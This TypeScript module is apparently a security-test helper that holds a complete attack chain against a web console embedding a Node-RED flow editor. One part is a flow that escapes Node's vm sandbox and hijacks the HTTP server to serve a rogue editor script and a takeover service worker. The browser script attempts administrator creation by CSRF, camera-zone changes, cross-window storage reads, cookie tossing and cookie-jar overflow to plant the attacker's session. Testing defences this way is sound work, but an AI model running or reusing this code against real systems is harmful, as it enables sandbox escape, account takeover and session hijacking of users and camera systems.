/**
 * The attack of somebody who may edit flows: a flow serves its own script to everybody who opens the editor.
 */

/** Service worker that answers every navigation, from then on and after every restart of the browser. */
const workerScript = `
  self.addEventListener('install', () => self.skipWaiting());
  self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
  self.addEventListener('fetch', (event) => {
    if (event.request.mode === 'navigate')
      event.respondWith(new Response('taken over', { headers: { 'content-type': 'text/html' } }));
  });`;

export interface AttackOptions {
  /** Origin of the console. */
  readonly target: string;
  /** A console session of the attacker's own, to be put into the victim's cookies. */
  readonly ownSession: string;
}

/**
 * Runs in the victim's browser, on the editor's page. Leaves the result of each attempt in `window.report`.
 */
export function attackScript({ target, ownSession }: AttackOptions): string {
  return `
window.report = {};
(async () => {
  const target = ${JSON.stringify(target)};
  const attempt = async (name, act) => {
    const late = new Promise((resolve) => setTimeout(resolve, 30000, 'no answer'));
    try { window.report[name] = String(await Promise.race([act(), late])); }
    catch (error) { window.report[name] = 'failed: ' + error; }
  };
  const key = () => localStorage.getItem('gatehouse-page-key') ?? '';
  const post = (path, body, more = {}) => fetch(target + path, {
    method: 'POST', credentials: 'include',
    headers: { 'content-type': 'application/json', 'x-gatehouse': '1', 'x-gatehouse-key': key() },
    body: JSON.stringify(body), ...more,
  });
  const mallory = { user: 'mallory', password: 'mallory 123', role: 'administrator', confirm: 'a guess' };
  await attempt('administrator', async () => (await post('/api/users', mallory)).status);
  await attempt('administrator by a plain request', async () =>
    (await post('/api/users', mallory, { mode: 'no-cors', headers: { 'content-type': 'text/plain' } })).type);
  await attempt('administrator by a form', () => new Promise((resolve) => {
    const form = document.createElement('form');
    form.method = 'POST'; form.enctype = 'text/plain'; form.action = target + '/api/users'; form.target = 'hidden-frame';
    const field = document.createElement('input');
    field.name = JSON.stringify(mallory).slice(0, -1) + ',"x":"'; field.value = '"}';
    form.append(field);
    const frame = document.createElement('iframe');
    frame.name = 'hidden-frame'; frame.onload = () => resolve('sent');
    document.body.append(frame, form);
    form.submit();
  }));
  await attempt('zones', async () => {
    const { version } = await (await fetch(target + '/api/cameras/east/zones', { credentials: 'include' })).json();
    return (await post('/api/cameras/east/zones', { zones: [], version })).status;
  });
  await attempt('events', () => new Promise((resolve, reject) => {
    const source = new EventSource(target + '/api/events', { withCredentials: true });
    source.addEventListener('state', ({ data }) => resolve('heard ' + data.length));
    source.onerror = () => reject('refused');
  }));
  await attempt('live view', () => new Promise((resolve, reject) => {
    const socket = new WebSocket(target.replace('http', 'ws') + '/api/cameras/east/live');
    socket.onopen = () => resolve('open');
    socket.onerror = () => reject('refused');
  }));
  await attempt('script', () => new Promise((resolve, reject) => {
    const script = document.createElement('script');
    script.src = target + '/api/site'; script.onload = () => resolve('loaded'); script.onerror = () => reject('refused');
    document.body.append(script);
  }));
  await attempt('storage', () => localStorage.getItem('planted') ?? 'nothing');
  await attempt('frame', async () => {
    const frame = document.createElement('iframe');
    frame.src = target + '/';
    document.body.append(frame);
    await new Promise((resolve) => { frame.onload = resolve; });
    return frame.contentWindow.localStorage.getItem('planted') ?? 'nothing';
  });
  await attempt('opener', () => window.opener?.localStorage.getItem('planted') ?? 'nothing');
  await attempt('window', async () => {
    const opened = window.open(target + '/');
    if (!opened) return 'not opened';
    await new Promise((resolve) => setTimeout(resolve, 2000));
    return opened.closed ? 'cut off' : opened.localStorage.getItem('planted');
  });
  for (const [name, scope] of [['worker', '/'], ['worker of the editor', '/flows/']])
    await attempt(name, async () => (await navigator.serviceWorker.register('/flows/red/sw.js', { scope })).scope);
  await attempt('read cookies', () => document.cookie);
  for (const path of ['/', '/api', '/api/', '/api/session', '/api/events', '/api/cameras'])
    await attempt('toss at ' + path, () => {
      document.cookie = 'gatehouse_session=${ownSession}; path=' + path;
      document.cookie = '=gatehouse_session=${ownSession}; path=' + path;
      document.cookie = 'gatehouse_session=${ownSession}; domain=' + location.hostname + '; path=' + path;
      return 'done';
    });
  window.reported = true;
})();`;
}

/** Pushes the victim's own cookies out of the browser's jar and puts the attacker's in their place. */
export function jarScript(ownSession: string): string {
  return `
for (let i = 0; i < 400; i++) document.cookie = 'filler' + i + '=x; path=/';
document.cookie = 'gatehouse_session=${ownSession}; path=/';
document.cookie;`;
}

/**
 * A flow that breaks out of Node's vm and answers the editor's own script, and one for a service worker, in
 * Node-RED's place.
 */
export function hostileFlow(script: string) {
  const code = `
const host = Buffer.constructor('return process')();
const { Server } = host.getBuiltinModule('node:http');
const emit = Server.prototype.emit;
const pages = [['main.min.js', ${JSON.stringify(script)}], ['sw.js', ${JSON.stringify(workerScript)}]];
Server.prototype.emit = function (name, request, response) {
  const found = name === 'request' && pages.find(([page]) => request.url.includes(page));
  if (!found) return emit.apply(this, arguments);
  response.writeHead(200, {
    'content-type': 'text/javascript', 'service-worker-allowed': '/', 'clear-site-data': '"cookies"',
    'set-cookie': 'gatehouse_session=planted; Path=/api', 'content-security-policy': "default-src *",
  });
  response.end(found[1]);
  return true;
};
node.warn('hostile flow in place');`;
  return [
    { id: 'a0', type: 'tab', label: 'hostile' },
    { id: 'a1', type: 'inject', z: 'a0', props: [], once: true, onceDelay: 0.1, wires: [['a2']] },
    { id: 'a2', type: 'function', z: 'a0', func: code, outputs: 1, libs: [], wires: [[]] },
  ];
}
